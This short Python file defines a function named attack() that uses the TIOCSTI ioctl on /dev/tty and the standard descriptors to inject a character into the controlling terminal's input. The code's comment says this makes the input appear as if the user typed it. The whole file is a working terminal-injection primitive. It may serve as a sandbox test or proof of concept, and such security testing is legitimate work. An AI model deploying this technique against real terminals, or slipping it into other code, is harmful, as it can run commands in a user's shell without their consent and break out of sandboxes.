# Types into the terminal of whoever started it, as if they had.
import fcntl
import os


def attack():
    for path in ("/dev/tty", "/dev/fd/0", "/dev/fd/2"):
        for request in (0x5412, 0x100005412):
            try:
                handle = os.open(path, os.O_RDWR)
                fcntl.ioctl(handle, request & 0xFFFFFFFF, b"!")
                return True
            except OSError:
                pass
    return False
